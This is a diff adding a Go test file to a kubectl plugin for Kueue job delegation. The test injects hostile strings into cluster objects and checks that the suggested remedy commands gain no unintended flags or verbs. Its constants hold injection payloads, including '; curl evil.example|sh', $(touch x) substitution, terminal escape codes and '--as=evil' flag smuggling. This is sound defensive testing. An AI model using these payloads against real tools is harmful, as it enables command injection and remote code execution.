@@ -1,0 +1,182 @@
+package rules_test
+
+import (
+	"encoding/json"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+
+	"gotest.tools/v3/assert"
+
+	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/inspect"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/inspect/kueue"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/inspect/rules"
+)
+
+const (
+	// evil is what somebody may write where anything may be written.
+	evil = "; curl evil.example|sh #`$(touch x)`'\"\n\r\x1b[2J\u202e --as=evil"
+	// evilName is the same as a name, which somebody may want to be taken for a flag.
+	evilName = "--as=evil;`$(touch x)`'\n\x1b[2J\u202e"
+	// evilOwner is what the API server takes behind the domain of a managedBy.
+	evilOwner = ";$(touch%20x)&'y'*!~(z)=--as"
+)
+
+// spoiled changes the strings of an object. Each gets the names on the way to it, and
+// is given back changed, or as it is.
+func spoiled(value any, change func(path []string, text string) string, path ...string) any {
+	switch v := value.(type) {
+	case map[string]any:
+		for key := range v {
+			v[key] = spoiled(v[key], change, append(slices.Clone(path), key)...)
+		}
+	case []any:
+		for i := range v {
+			v[i] = spoiled(v[i], change, path...)
+		}
+	case string:
+		return change(path, v)
+	}
+	return value
+}
+
+// sayEvil writes after everything that anybody may write.
+func sayEvil(path []string, text string) string {
+	last, within := path[len(path)-1], strings.Join(path, ".")
+	switch {
+	case last == "message", last == "note":
+		return text + evil
+	case strings.HasPrefix(within, "metadata.annotations") && !delegation.IsMark(last), last == "image":
+		return text + evil
+	}
+	return text
+}
+
+// byUsers is a change that leaves alone what is Kueue's, whose words rules go by.
+func byUsers(change func([]string, string) string) func(object map[string]any) {
+	return func(object map[string]any) {
+		if apiVersion, _ := object["apiVersion"].(string); !strings.HasPrefix(apiVersion, kueue.Group) {
+			spoiled(object, change)
+		}
+	}
+}
+
+// byAnybody is a change of everything.
+func byAnybody(change func([]string, string) string) func(object map[string]any) {
+	return func(object map[string]any) { spoiled(object, change) }
+}
+
+// nameEvil puts a name that is none in the place of all that somebody gives as the name
+// of an object, where the API server lets him.
+func nameEvil(path []string, text string) string {
+	last := path[len(path)-1]
+	known := []string{string(delegation.MultiKueue), string(delegation.Dispatch), "", "kubernetes.io/job-controller"}
+	switch {
+	case last == "managedBy" && !slices.Contains(known, text):
+		return text + evilOwner
+	case last == "message", last == "note":
+		return regexp.MustCompile(`"[^"]*"`).ReplaceAllString(text, `"`+evilName+`"`)
+	case delegation.IsMark(last) && slices.Contains(path, "annotations") && strings.Contains(text, "/"):
+		parts := strings.Split(text, "/")
+		parts[1] = evilName
+		return strings.Join(parts, "/")
+	case delegation.IsMark(last) && slices.Contains(path, "annotations"):
+		return evilName
+	case slices.Contains([]string{"holderIdentity", "clusterName", "queueName", "nominatedClusterNames", "priorityClassName", "serviceAccountName"}, last):
+		return evilName
+	}
+	return text
+}
+
+// TestHostileFleets: whatever is said in a cluster, what a finding says is to be run is a
+// command of ours with the words that were meant. Names that are no names take commands
+// away, but put no others there.
+func TestHostileFleets(t *testing.T) {
+	for _, c := range cases() {
+		if !c.fires {
+			continue
+		}
+		t.Run(c.code+" "+c.name, func(t *testing.T) {
+			t.Parallel()
+			rule, _ := rules.ByCode(c.code)
+			findings := func(change func(map[string]any)) []inspect.Finding {
+				hostile := c
+				hostile.spoil = change
+				return judge(t, hostile.make(t), []rules.Rule{rule}, 0)
+			}
+			meant := commandsIn(t, judge(t, c.inventory(t), []rules.Rule{rule}, 0))
+			assert.DeepEqual(t, commandsIn(t, findings(byUsers(sayEvil))), meant)
+			for _, words := range commandsIn(t, findings(byAnybody(nameEvil))) {
+				checkOptions(t, c.code, words)
+			}
+		})
+	}
+}
+
+// commandsIn are the words of all commands that findings have, without what is evil.
+func commandsIn(t *testing.T, findings []inspect.Finding) [][]string {
+	t.Helper()
+	var all [][]string
+	for _, f := range findings {
+		for _, part := range command.Prose(f.Remedy).Parts() {
+			if !part.IsCommand {
+				continue
+			}
+			for _, words := range shelltest.Pipeline(t, part.Text) {
+				for i := range words {
+					words[i] = strings.NewReplacer(evil, "", evilOwner, "").Replace(words[i])
+				}
+				all = append(all, words)
+			}
+		}
+	}
+	return all
+}
+
+// options are what commands in remedies are told by. Whatever else begins with a dash,
+// we have not written.
+var options = regexp.MustCompile(`^(-n|-p|-f|-o|-l|-A|-|--|--(context|kubeconfig|server-side|to|namespace-to|new-mirror|managed-by|queue|force|as|raw|type|subresource|overwrite|replicas|` +
+	`ignore-not-found|field-selector|show-labels|dry-run|image|verb|resource|clusterrole|user|from-file|all-namespaces|previous)(=.*)?)$`)
+
+// verbs are what commands do.
+var verbs = []string{
+	"get", "describe", "edit", "create", "delete", "patch", "label", "annotate", "apply", "scale", "rollout", "auth", "logs",
+	"dispatch", "cancel", "recreate", "api-resources", "top", "explain",
+}
+
+// checkOptions checks that nothing in a command is a flag or a verb that was not meant.
+func checkOptions(t *testing.T, code string, words []string) {
+	t.Helper()
+	if words[0] != "kubectl" {
+		return
+	}
+	rest := words[1:]
+	for len(rest) > 2 && slices.Contains([]string{"--context", "--kubeconfig", "-n"}, rest[0]) {
+		rest = rest[2:]
+	}
+	if rest[0] == "jobs-managedby" {
+		rest = rest[1:]
+	}
+	assert.Assert(t, slices.Contains(verbs, rest[0]), "%s: %q does nothing known", code, words)
+	takesValue := []string{"-n", "-p", "-f", "-o", "-l", "--context", "--to", "--namespace-to", "--managed-by", "--queue", "--type", "--raw", "--field-selector"}
+	for i := 1; i < len(rest); i++ {
+		assert.Assert(t, !strings.HasPrefix(rest[i], "-") || options.MatchString(rest[i]) && !strings.Contains(rest[i], "evil"), "%s: %q is a flag in %q", code, rest[i], words)
+		if slices.Contains(takesValue, rest[i]) {
+			i++
+		}
+	}
+}
+
+// clone is a copy of an object that shares nothing with it.
+func clone(t *testing.T, object map[string]any) map[string]any {
+	t.Helper()
+	text, err := json.Marshal(object)
+	assert.NilError(t, err)
+	var copied map[string]any
+	assert.NilError(t, json.Unmarshal(text, &copied))
+	return copied
+}
